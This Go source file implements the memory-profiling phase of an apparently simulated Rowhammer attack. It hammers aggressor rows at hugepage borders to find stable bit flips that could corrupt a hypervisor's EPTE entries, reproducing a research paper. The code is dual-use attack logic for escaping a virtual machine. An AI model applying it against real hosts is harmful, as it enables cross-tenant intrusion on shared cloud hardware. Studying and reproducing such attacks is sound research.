package attack

import (
	"fmt"
	"time"

	"hyperhammer/internal/dram"
	"hyperhammer/internal/guest"
	"hyperhammer/internal/memdef"
	"hyperhammer/internal/simtime"
)

// profilePattern is the fill value used while profiling: alternating
// bits, so that at every bit position half the cells hold the value a
// unidirectional flip can move away from, making both flip directions
// observable in a single pass.
const profilePattern = 0x5555555555555555

// VulnBit is one Rowhammer-vulnerable bit found by profiling, together
// with the aggressor pair that flips it.
type VulnBit struct {
	// Flip locates the bit in the attacker's address space at
	// profiling time.
	Flip guest.Flip
	// AggressorA and AggressorB are the two same-bank consecutive-row
	// addresses whose hammering flips the bit.
	AggressorA, AggressorB memdef.GVA
	// Stable reports whether the bit survived every stability retest.
	Stable bool
	// InRange reports whether the bit falls in the PFN bit range that
	// usefully corrupts an EPTE (Section 4.1) — what Table 1's
	// "Expl." column counts.
	InRange bool
	// Exploitable reports whether the bit is attack-usable: both
	// stable and in range.
	Exploitable bool
}

// Buffer describes the attacker's big THP allocation: profiled first,
// then reused as the EPTE spray buffer.
type Buffer struct {
	Base      memdef.GVA
	Hugepages int
}

// HugepageBase returns the virtual base of the i-th hugepage.
func (b Buffer) HugepageBase(i int) memdef.GVA {
	return b.Base + memdef.GVA(i)*memdef.HugePageSize
}

// ProfileResult summarizes a profiling run (the Table 1 measurement).
type ProfileResult struct {
	// Buffer is the profiled allocation, which remains allocated for
	// the subsequent attack steps.
	Buffer Buffer

	// Bits lists every distinct vulnerable bit found, in discovery
	// order.
	Bits []VulnBit

	// Table 1 counters. Exploitable counts bits in the useful PFN
	// range over all detected flips, matching the paper's "Expl."
	// column (whose S2 value exceeds the stable count, so the paper
	// filters from the total); AttackUsable additionally requires
	// stability — the set the attack releases.
	Total, OneToZero, ZeroToOne, Stable, Exploitable, AttackUsable int

	// HammerOps is the number of aggressor-pair hammer operations.
	HammerOps int
	// Duration is the simulated time the profile took.
	Duration time.Duration
}

// Profile performs the memory profiling step of Section 4.1: allocate
// (nearly) all guest memory as THP hugepages, and for every hugepage
// hammer same-bank consecutive-row aggressor pairs at both hugepage
// borders, scanning for flips after each pattern. Single-sided
// hammering is forced by virtio-mem's 2 MiB release granularity
// (Section 4.1).
func Profile(os *guest.OS, cfg Config) (*ProfileResult, error) {
	span := cfg.startSpan("attack.profile")
	res, err := profile(os, cfg)
	if err != nil {
		span.End("err", err)
		return nil, err
	}
	span.End("bits", res.Total, "usable", res.AttackUsable, "hammerOps", res.HammerOps)
	cfg.observePhase("profile", res.Duration)
	if m := cfg.Metrics; m != nil {
		m.Counter("attack_profiled_bits_total", "Distinct vulnerable bits found by profiling.").Add(uint64(res.Total))
		m.Counter("attack_usable_bits_total", "Stable, in-range bits usable by the attack.").Add(uint64(res.AttackUsable))
	}
	return res, nil
}

func profile(os *guest.OS, cfg Config) (*ProfileResult, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	sw := simtime.NewStopwatch(os.Clock())

	n := cfg.ProfileHugepages
	if n == 0 || n > os.FreeHugepages() {
		n = os.FreeHugepages()
	}
	if n < 2 {
		return nil, fmt.Errorf("attack: profiling needs at least 2 hugepages, have %d", n)
	}
	base, err := os.AllocHuge(n)
	if err != nil {
		return nil, fmt.Errorf("attack: allocating profile buffer: %w", err)
	}
	res := &ProfileResult{Buffer: Buffer{Base: base, Hugepages: n}}

	if err := os.FillPages(base, n*memdef.PagesPerHuge, profilePattern); err != nil {
		return nil, fmt.Errorf("attack: filling profile buffer: %w", err)
	}

	pairs := cfg.aggressorPairs()
	seen := make(map[guest.Flip]bool)
	gvaPairs := make([][2]memdef.GVA, len(pairs))

	done := false
	for hp := 0; hp < n && !done; hp++ {
		hugeBase := base + memdef.GVA(hp)*memdef.HugePageSize
		for i, pr := range pairs {
			gvaPairs[i] = [2]memdef.GVA{hugeBase + memdef.GVA(pr[0]), hugeBase + memdef.GVA(pr[1])}
		}
		err := os.HammerScanPairs(gvaPairs, cfg.HammerRounds, func(i int, flips []guest.Flip) (bool, error) {
			res.HammerOps++
			a, b := gvaPairs[i][0], gvaPairs[i][1]
			for _, f := range flips {
				if seen[f] {
					continue
				}
				seen[f] = true
				// Flips inside the aggressors' own hugepage are
				// invisible to the paper's scan of "all other 2 MB
				// regions" and useless anyway: releasing that
				// hugepage would release the aggressors with it.
				if f.HugepageBase() == hugeBase {
					continue
				}
				bit := VulnBit{Flip: f, AggressorA: a, AggressorB: b}
				bit.Stable = retestStability(os, cfg, bit)
				bit.InRange = cfg.exploitableBit(f.EPTEBit())
				bit.Exploitable = bit.Stable && bit.InRange
				res.add(bit)
				if cfg.StopAfterExploitable > 0 && res.AttackUsable >= cfg.StopAfterExploitable {
					done = true
					return true, nil
				}
			}
			return false, nil
		})
		if err != nil {
			return nil, fmt.Errorf("attack: hammering: %w", err)
		}
	}
	res.Duration = sw.Elapsed()
	return res, nil
}

// aggressorPairs precomputes, for both hugepage borders and every
// relative bank class, an in-hugepage offset pair lying in consecutive
// row-spans of the same bank. The offsets are identical for every
// hugepage because bank classes depend only on the low 21 address
// bits.
func (c Config) aggressorPairs() [][2]uint64 {
	// classOffset[r][cls] is a representative 64-byte-aligned offset
	// in row-span r with the given bank class.
	classOffset := make([][]uint64, rowsPerHuge)
	for r := range classOffset {
		classOffset[r] = make([]uint64, c.bankClasses())
		need := c.bankClasses()
		found := make([]bool, need)
		for off := uint64(r) * rowSpan; off < uint64(r+1)*rowSpan && need > 0; off += 64 {
			cls := c.bankClass(off)
			if !found[cls] {
				found[cls] = true
				classOffset[r][cls] = off
				need--
			}
		}
	}
	var pairs [][2]uint64
	// Bottom border: rows 0 and 1 (victims below the hugepage);
	// top border: the last two rows (victims above).
	for _, rr := range [][2]int{{0, 1}, {rowsPerHuge - 2, rowsPerHuge - 1}} {
		for cls := 0; cls < c.bankClasses(); cls++ {
			pairs = append(pairs, [2]uint64{
				classOffset[rr[0]][cls],
				classOffset[rr[1]][cls],
			})
		}
	}
	return pairs
}

// retestStability re-arms and re-hammers a flip stabilityRetests
// times; the bit is stable only if it flips every time.
func retestStability(os *guest.OS, cfg Config, bit VulnBit) bool {
	pageBase := bit.Flip.GVA &^ (memdef.PageSize - 1)
	wordAddr := bit.Flip.GVA &^ 7
	bitPos := bit.Flip.EPTEBit()
	for i := 0; i < stabilityRetests; i++ {
		if err := os.FillPages(pageBase, 1, profilePattern); err != nil {
			return false
		}
		aggs := []memdef.GVA{bit.AggressorA, bit.AggressorB}
		if err := os.Hammer(guest.HammerSpec{Aggressors: aggs, Rounds: cfg.HammerRounds}); err != nil {
			return false
		}
		w, err := os.Read64(wordAddr)
		if err != nil {
			return false
		}
		if (w>>bitPos)&1 == (profilePattern>>bitPos)&1 {
			return false // did not flip this round
		}
	}
	return true
}

func (r *ProfileResult) add(bit VulnBit) {
	r.Bits = append(r.Bits, bit)
	r.Total++
	if bit.Flip.Direction == dram.FlipOneToZero {
		r.OneToZero++
	} else {
		r.ZeroToOne++
	}
	if bit.Stable {
		r.Stable++
	}
	if bit.InRange {
		r.Exploitable++
	}
	if bit.Exploitable {
		r.AttackUsable++
	}
}

// ExploitableBits returns the stable exploitable bits, at most max
// (0 = all), preferring discovery order.
func (r *ProfileResult) ExploitableBits(max int) []VulnBit {
	var out []VulnBit
	for _, b := range r.Bits {
		if !b.Exploitable {
			continue
		}
		out = append(out, b)
		if max > 0 && len(out) == max {
			break
		}
	}
	return out
}
